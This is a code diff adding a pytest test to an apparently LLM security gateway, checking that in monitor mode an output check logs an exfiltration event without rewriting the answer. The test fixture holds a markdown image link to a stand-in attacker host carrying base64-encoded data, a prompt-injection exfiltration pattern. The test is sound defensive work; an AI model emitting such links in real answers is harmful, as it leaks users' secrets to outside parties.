@@ -7,10 +7,12 @@ from typing import Any
 
 import aiohttp
 import openai
+import orjson
 import pytest
 from openai import AsyncOpenAI
 
 from tests.conftest import GatewayFactory, Upstream, policy_text
+from wardgate.observe.query import EventQuery, query_events
 
 ROUTES = """
   - name: chat
@@ -209,3 +211,24 @@ async def test_untrusted_fields_of_a_plain_api_are_scored_as_documents(
             assert response.status == 200
         async with http.post(f"{gw.base}/echo/ingest", json=poisoned) as response:
             assert response.status == 403
+
+
+async def test_in_monitor_mode_an_answer_is_recorded_not_rewritten(
+    upstream: Upstream, make_gateway: GatewayFactory, tmp_path: Path
+) -> None:
+    routes = """
+      - name: chat
+        match: {path_prefix: /v1}
+        upstream: up
+        provider: openai
+        checks:
+          - {type: output, mode: monitor}
+    """
+    gw = await make_gateway(policy_text(f'["{upstream.base}"]', routes, events_db=tmp_path / "e"))
+    leak = "see ![x](https://collect.evil.test/p.png?d=c2VjcmV0)"
+    async with _client(f"{gw.base}/v1") as client:
+        reply = await client.chat.completions.create(model="m", messages=_user(leak))
+    assert "evil.test" in (reply.choices[0].message.content or "")
+    await gw.flush_events()
+    (event,) = query_events(tmp_path / "e", EventQuery())
+    assert "output.exfiltration" in orjson.dumps(event).decode()
